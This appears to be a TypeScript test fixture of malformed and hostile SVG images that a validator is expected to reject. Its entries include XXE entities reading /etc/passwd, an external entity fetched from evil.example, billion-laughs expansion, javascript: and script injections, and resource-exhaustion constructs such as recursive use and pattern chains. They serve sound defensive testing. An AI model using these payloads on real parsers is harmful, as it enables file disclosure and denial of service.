import { svg, XLINK, XMLNS } from './svg-vectors';

/** Drawings that are invalid, or rejected. */
export const BAD_SVGS: readonly [name: string, svg: string, problem: string][] = [
  ['entities of its own', `<!DOCTYPE svg [<!ENTITY x "alert(1)">]>${svg('<text>&x;</text>')}`, 'image_svg'],
  [
    'an entity of a file',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
    'image_svg',
  ],
  [
    'a billion laughs',
    `<!DOCTYPE svg [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, n) => `<!ENTITY ${'b'.repeat(n + 1)} "${`&${n ? 'b'.repeat(n) : 'a'};`.repeat(10)}">`).join('')}]>${svg(`<text>&${'b'.repeat(20)};</text>`)}`,
    'image_svg',
  ],
  [
    'an entity of a parameter',
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]>${svg('<text>&y;</text>')}`,
    'image_svg',
  ],
  [
    'a character that XML does not have',
    svg('<a href="&#x1F;javascript:alert(1)"><text>x</text></a>'),
    'image_svg',
  ],
  ['half a file', svg('').slice(0, 60), 'image_svg'],
  ['an attribute without quotes', svg('<rect width=1 />'), 'image_svg'],
  [
    'the same attribute twice, under two prefixes that are not declared',
    svg('<use a:href="#x" b:href="#y"/>'),
    'image_svg',
  ],
  ['tags that do not close', svg('<g><path></g>'), 'image_svg'],
  ['two roots', svg('') + svg(''), 'image_svg'],
  ['HTML with a drawing in it', `<html><body>${svg('')}</body></html>`, 'image_svg'],
  ['a root of another namespace', '<svg xmlns="urn:evil"><rect width="9" height="9"/></svg>', 'image_svg'],
  ['script alone', `<svg ${XMLNS}><script>alert(1)</script></svg>`, 'image_svg_empty'],
  [
    'a page alone',
    `<svg ${XMLNS}><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>`,
    'image_svg_empty',
  ],
  [
    'a photograph alone',
    `<svg ${XMLNS} ${XLINK}><image xlink:href="data:image/png;base64,AA=="/></svg>`,
    'image_svg_empty',
  ],
  [
    'use of another file alone',
    `<svg ${XMLNS}><use href="https://evil.example/x.svg#x"/></svg>`,
    'image_svg_empty',
  ],
  ['definitions alone', `<svg ${XMLNS}><defs><rect width="9" height="9"/></defs></svg>`, 'image_svg_empty'],
  ['no words', `<svg ${XMLNS}><text> </text></svg>`, 'image_svg_empty'],
  ['nothing', `<svg ${XMLNS}/>`, 'image_svg_empty'],
  ['100,000 groups in each other', svg('<g>'.repeat(100_000) + '</g>'.repeat(100_000)), 'image_svg_heavy'],
  [
    '100,000 unknown elements in each other',
    svg('<x>'.repeat(100_000) + '</x>'.repeat(100_000)),
    'image_svg_heavy',
  ],
  ['100,000 shapes', svg('<rect/>'.repeat(100_000)), 'image_svg_heavy'],
  [
    'uses of uses',
    svg(
      `<defs><g id="u0"><rect/></g>${Array.from({ length: 12 }, (_, n) => `<g id="u${n + 1}">${`<use href="#u${n}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#u12"/>`,
    ),
    'image_svg_heavy',
  ],
  [
    'patterns of patterns',
    svg(
      `${Array.from({ length: 12 }, (_, n) => `<pattern id="p${n + 1}">${`<rect fill="url(#p${n})"/>`.repeat(10)}</pattern>`).join('')}<rect fill="url(#p12)"/>`,
    ),
    'image_svg_heavy',
  ],
  [
    'patterns of patterns by a style sheet',
    svg(
      `<style>${Array.from({ length: 12 }, (_, n) => `g > .c${n + 1}, .d${n}{fill:url(#p${n})}`).join('')}</style>${Array.from({ length: 12 }, (_, n) => `<pattern id="p${n + 1}">${`<rect class="x c${n + 1}"/>`.repeat(10)}</pattern>`).join('')}<rect fill="url(#p12)"/>`,
    ),
    'image_svg_heavy',
  ],
  ['use of itself', svg('<g id="a"><use href="#a"/></g>'), 'image_svg_heavy'],
  ['a pattern of itself', svg('<pattern id="p"><rect fill="url(#p)"/></pattern>'), 'image_svg_heavy'],
  [
    'a chain of uses',
    svg(
      `<g id="u0"/>${Array.from({ length: 20_000 }, (_, n) => `<g id="u${n + 1}"><use href="#u${n}"/></g>`)
        .reverse()
        .join('')}`,
    ),
    'image_svg_heavy',
  ],
  [
    'markers on every corner',
    svg(
      `<marker id="m">${'<rect/>'.repeat(500)}</marker><path d="${'h1v1'.repeat(2000)}" marker-mid="url(#m)"/>`,
    ),
    'image_svg_heavy',
  ],
  [
    'a thousand clouds',
    svg(
      `<filter id="f"><feTurbulence numOctaves="9999"/></filter>${'<rect filter="url(#f)"/>'.repeat(1000)}`,
    ),
    'image_svg_heavy',
  ],
];
